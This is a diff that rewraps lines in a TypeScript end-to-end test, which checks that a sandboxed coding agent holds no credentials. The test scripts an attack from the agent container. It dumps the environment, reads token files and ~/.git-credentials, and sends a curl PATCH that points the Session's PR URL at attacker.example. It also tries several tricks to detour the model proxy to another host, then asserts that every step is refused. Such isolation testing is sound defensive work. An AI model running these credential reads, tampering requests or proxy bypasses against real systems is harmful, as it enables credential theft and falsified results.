@@ -50,7 +50,8 @@ const proxyDetours = (elsewhere: string): Array<[string, string]> => [
   ['scheme-relative', `--request-target //${elsewhere}/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
   ['encoded-dots', `--request-target /%2e%2e/v1/messages "$ANTHROPIC_BASE_URL/v1/messages"`],
   ['foreign-host', `-H 'Host: ${elsewhere}' "$ANTHROPIC_BASE_URL/v1/messages"`],
-  ['as-http-proxy', `--noproxy '' --proxy "$ANTHROPIC_BASE_URL" http://${elsewhere}/v1/messages`], // NO_PROXY names loopback
+  // NO_PROXY names loopback
+  ['as-http-proxy', `--noproxy '' --proxy "$ANTHROPIC_BASE_URL" http://${elsewhere}/v1/messages`],
 ];
 
 /** Every regular file under dir (symlinks not followed), as text. */
@@ -65,7 +66,8 @@ function filesUnder(dir: string): Array<[string, string]> {
 
 describe('end to end: the agent holds no credential', () => {
   it(
-    'reading environments, token files and git credentials finds no canary; none reaches the branch, the Session, the phone or the logs',
+    'reading environments, token files and git credentials finds no canary; none reaches the branch, the Session, ' +
+      'the phone or the logs',
     { timeout: 120_000 },
     async () => {
       const canaries = [GITHUB_CANARY, ANTHROPIC_CANARY, e2e.twilio.authToken, e2e.stack.chatToken];
@@ -86,7 +88,9 @@ describe('end to end: the agent holds no credential', () => {
       ];
       expect(files.every((file) => existsSync(file))).toBe(true);
       const [running] = await e2e.list();
-      const status = `${e2e.kubeConfig.getCurrentCluster()!.server}/apis/tether.dev/v1alpha1/namespaces/${e2e.stack.namespace}/sessions/${running!.metadata.name}/status`;
+      const status =
+        `${e2e.kubeConfig.getCurrentCluster()!.server}/apis/tether.dev/v1alpha1/namespaces/${e2e.stack.namespace}` +
+        `/sessions/${running!.metadata.name}/status`;
       const upload = `${e2e.stack.relayUrl}/uploads/${e2e.stack.namespace}/${running!.metadata.name}/diff.png`;
       const detours = proxyDetours(`127.0.0.1:${(listener.address() as AddressInfo).port}`);
       writeFileSync(
@@ -97,11 +101,15 @@ describe('end to end: the agent holds no credential', () => {
           'env',
           `cat ${files.join(' ')} ~/.git-credentials`,
           // Without a credential, rewrite the Session's result or replace the reviewed picture.
-          `echo "api: $(curl -sk -o /dev/null -w '%{http_code}' -X PATCH -H 'content-type: application/merge-patch+json' --data '{"status":{"result":{"prUrl":"https://attacker.example/pr"}}}' ${status})"`,
-          `echo "media: $(curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'content-type: image/png' --data-binary @/etc/hostname ${upload})"`,
+          `echo "api: $(curl -sk -o /dev/null -w '%{http_code}' -X PATCH -H 'content-type: ` +
+            `application/merge-patch+json' --data '{"status":{"result":{"prUrl":"https://attacker.example/pr"}}}' ` +
+            `${status})"`,
+          `echo "media: $(curl -s -o /dev/null -w '%{http_code}' -X PUT -H 'content-type: image/png' --data-binary ` +
+            `@/etc/hostname ${upload})"`,
           ...detours.map(
             ([name, args]) =>
-              `echo "proxy ${name}: $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'content-type: application/json' --data '{}' ${args})"`,
+              `echo "proxy ${name}: $(curl -s -o /dev/null -w '%{http_code}' -X POST -H 'content-type: ` +
+              `application/json' --data '{}' ${args})"`,
           ),
         ].join('\n'),
         { mode: 0o644 },
@@ -116,7 +124,8 @@ describe('end to end: the agent holds no credential', () => {
       const remoteGit = (...args: string[]) =>
         execFileSync('git', ['-c', `safe.directory=${e2e.remote}`, '-C', e2e.remote, ...args], { encoding: 'latin1' });
       const leak = remoteGit('show', `${pull.head}:leak.txt`);
-      // The attack ran, as the agent container's user (1001, on host ids of its Pod's own), and was refused what it must not see.
+      // The attack ran, as the agent container's user (1001, on host ids of its Pod's own), and was refused what it
+      // must not see.
       const uid = Number(leak.split('\n')[0]);
       expect(uid).toBeGreaterThanOrEqual(FIRST_HOST_ID);
       expect(containerIdOf(uid)).toBe(AGENT_UID);
@@ -125,7 +134,8 @@ describe('end to end: the agent holds no credential', () => {
       expect(leak).not.toMatch(/KUBECONFIG=/);
       expect(leak).toMatch(/^api: 40[13]$/m); // the API server refuses an anonymous status write
       expect(leak).toMatch(/^media: 40[13]$/m); // the relay refuses an upload without the runner's token
-      for (const [name] of detours) expect(leak).toMatch(new RegExp(`^proxy ${name}: 400$`, 'm')); // the model proxy sends none on
+      // the model proxy sends none on
+      for (const [name] of detours) expect(leak).toMatch(new RegExp(`^proxy ${name}: 400$`, 'm'));
       expect(heard).toEqual([]);
       expect(session!.status?.result?.prUrl).toBe(pull.html_url);
 
@@ -138,7 +148,8 @@ describe('end to end: the agent holds no credential', () => {
         ['phone', JSON.stringify(phone.received())],
         ['logs', e2e.logs().join('\n')],
       ];
-      expect(e2e.logs().filter((line) => line.startsWith('runner ')).length).toBeGreaterThan(0); // the Pod's own lines are among them
+      // the Pod's own lines are among them
+      expect(e2e.logs().filter((line) => line.startsWith('runner ')).length).toBeGreaterThan(0);
       for (const canary of canaries) {
         expect(
           places.filter(([, text]) => text.includes(canary)).map(([where]) => where),
